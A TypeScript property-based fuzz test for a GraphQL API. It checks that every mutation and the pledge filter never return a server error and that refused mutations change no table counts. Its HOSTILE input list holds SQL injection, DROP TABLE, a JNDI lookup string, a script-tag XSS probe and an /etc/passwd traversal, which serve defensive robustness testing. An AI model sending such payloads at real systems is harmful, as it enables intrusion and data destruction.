import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import fc from 'fast-check';
import { readFileSync } from 'node:fs';
import {
  buildSchema,
  isEnumType,
  isInputObjectType,
  isListType,
  isNonNullType,
  isScalarType,
  type GraphQLArgument,
  type GraphQLInputType,
} from 'graphql';
import { startTestApi, type TestApi } from '../support/harness.js';
import { createMember, createPublishedPledge } from '../support/factories.js';

/**
 * Property-based inputs, built from the schema itself, against every mutation and the filter language:
 * whatever comes in, the answer is data or a typed error (never a 500), and a refused mutation writes nothing.
 */
const schema = buildSchema(readFileSync(new URL('../../schema.graphql', import.meta.url), 'utf8'));

const HOSTILE = [
  "' OR 1=1 --",
  "'); DROP TABLE pledge; --",
  '%',
  '_',
  '\\',
  '"',
  '\u0000',
  'a\u0000b',
  '${jndi:ldap://example.org/a}',
  '<script>alert(1)</script>',
  '../../etc/passwd',
  '😀'.repeat(50),
  'x'.repeat(30_000),
  '',
  ' ',
];

let api: TestApi;
let ids: string[] = [];

const text = () => fc.oneof(fc.constantFrom(...HOSTILE), fc.string({ maxLength: 40 }), fc.constantFrom('KE', 'ACCESS', 'YOUTH', 'USD', 'AFRICA', 'admin@test.example.org'));

function scalar(name: string): fc.Arbitrary<unknown> {
  switch (name) {
    case 'Int':
      return fc.oneof(fc.integer({ min: -5, max: 120 }), fc.constantFrom(0, -1, 2_147_483_647, -2_147_483_648));
    case 'Float':
      return fc.oneof(fc.double({ noNaN: true, noDefaultInfinity: true }), fc.constantFrom(0, -1, 1e308));
    case 'Boolean':
      return fc.boolean();
    case 'ID':
      return fc.oneof(fc.constantFrom(...ids), text(), fc.constantFrom(Buffer.from('Pledge:999999').toString('base64url'), Buffer.from('Member:1; drop').toString('base64url')));
    case 'Decimal':
      return fc.oneof(fc.constantFrom('1000', '0', '-5', '1e309', '123456789012345678.12', '0.001', 'NaN', '1000000.50'), text());
    case 'LocalDate':
      return fc.oneof(fc.constantFrom('2024-02-29', '2023-02-29', '0000-01-01', '9999-12-31', '2025-13-01'), fc.date({ noInvalidDate: true }).map((d) => d.toISOString().slice(0, 10)), text());
    case 'DateTimeISO':
      return fc.oneof(fc.date({ noInvalidDate: true }).map((d) => d.toISOString()), text());
    default:
      return fc.oneof(text(), fc.integer(), fc.constant(null));
  }
}

/** Values of an input type, sometimes of the wrong type altogether; nested input objects stop at a depth. */
function arbitrary(type: GraphQLInputType, depth: number): fc.Arbitrary<unknown> {
  if (isNonNullType(type)) return arbitrary(type.ofType, depth);
  if (isListType(type)) return fc.array(arbitrary(type.ofType, depth + 1), { maxLength: depth > 1 ? 2 : 4 });
  if (isEnumType(type)) return fc.oneof({ weight: 9, arbitrary: fc.constantFrom(...type.getValues().map((v) => v.value)) }, { weight: 1, arbitrary: text() });
  if (isScalarType(type)) return scalar(type.name);
  if (isInputObjectType(type)) {
    const fields = Object.values(type.getFields()).filter((f) => isNonNullType(f.type) || depth < 3);
    const required = fields.filter((f) => isNonNullType(f.type)).map((f) => f.name);
    return fc.record(Object.fromEntries(fields.map((f) => [f.name, arbitrary(f.type, depth + 1)])), { requiredKeys: required });
  }
  return fc.constant(null);
}

const argsOf = (args: readonly GraphQLArgument[]) =>
  fc.record(Object.fromEntries(args.map((a) => [a.name, arbitrary(a.type, 0)])), { requiredKeys: args.filter((a) => isNonNullType(a.type)).map((a) => a.name) });

const USER_TABLES = ['pledge', 'member', 'person', 'event', 'account', 'audit_entry', 'notification', 'progress_report', 'reporting_cycle', 'country_need', 'match', 'pillar', 'working_group', 'expression_of_interest'];

async function counts(): Promise<string> {
  const [row] = await api.sql<{ counts: string }>(`select concat_ws(',', ${USER_TABLES.map((t) => `(select count(*) from "${t}")`).join(', ')}) as counts`);
  return row!.counts;
}

async function post(cookie: string, query: string, variables: unknown) {
  const response = await fetch(`${api.url}/graphql`, { method: 'POST', headers: { 'content-type': 'application/json', cookie }, body: JSON.stringify({ query, variables }) });
  const body = (await response.json()) as { data?: unknown; errors?: { message: string; extensions?: { code?: string } }[] };
  return { status: response.status, body };
}

let cookie = '';

beforeAll(async () => {
  api = await startTestApi();
  const admin = await api.admin();
  const member = await createMember(admin);
  const pledge = await createPublishedPledge(admin, { leadMemberId: member.id });
  ids = [member.id, pledge.id];
  const login = await fetch(`${api.url}/graphql`, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ query: 'mutation { login(input: { email: "admin@test.example.org", password: "admin-password-for-tests" }) { expiresAt } }' }),
  });
  cookie = login.headers.get('set-cookie')!.split(';')[0]!;
});
afterAll(() => api?.close());

const internal = (body: { errors?: { extensions?: { code?: string } }[] }) => body.errors?.some((e) => e.extensions?.code === 'INTERNAL_SERVER_ERROR') ?? false;

describe('fuzzing', () => {
  it('the filter language: any filter, search and order is answered with data or a typed error', async () => {
    const pledges = schema.getQueryType()!.getFields().pledges!;
    await fc.assert(
      fc.asyncProperty(argsOf(pledges.args), async (args) => {
        const answer = await post(cookie, 'query ($filter: PledgeFilter, $search: String, $orderBy: [PledgeOrder!], $first: Int) { pledges(filter: $filter, search: $search, orderBy: $orderBy, first: $first) { totalCount nodes { id } } }', args);
        expect(answer.status, JSON.stringify(answer.body.errors)).not.toBe(500);
        expect(internal(answer.body), JSON.stringify({ args, errors: answer.body.errors })).toBe(false);
      }),
      { numRuns: 150 },
    );
  }, 180_000);

  it('every mutation: answered with data or a typed error, and a refused one writes nothing', async () => {
    const mutations = Object.values(schema.getMutationType()!.getFields()).filter((m) => !['login', 'logout', 'changePassword', 'resetPassword', 'deactivateAccount'].includes(m.name));
    for (const mutation of mutations) {
      const variables = mutation.args.map((a) => `$${a.name}: ${a.type.toString()}`).join(', ');
      const call = mutation.args.map((a) => `${a.name}: $${a.name}`).join(', ');
      const selection = /^(Boolean|Int|String)!?$/.test(mutation.type.toString()) ? '' : ' { __typename }';
      const query = `mutation${variables ? ` (${variables})` : ''} { ${mutation.name}${call ? `(${call})` : ''}${selection} }`;
      await fc.assert(
        fc.asyncProperty(argsOf(mutation.args), async (args) => {
          const before = await counts();
          const answer = await post(cookie, query, args);
          expect(answer.status, `${mutation.name}: ${JSON.stringify(answer.body.errors)}`).not.toBe(500);
          expect(internal(answer.body), `${mutation.name} ${JSON.stringify({ args, errors: answer.body.errors })}`).toBe(false);
          if (answer.body.errors?.length) expect(await counts(), `${mutation.name} wrote although refused`).toBe(before);
        }),
        { numRuns: 4 },
      );
    }
  }, 300_000);
});
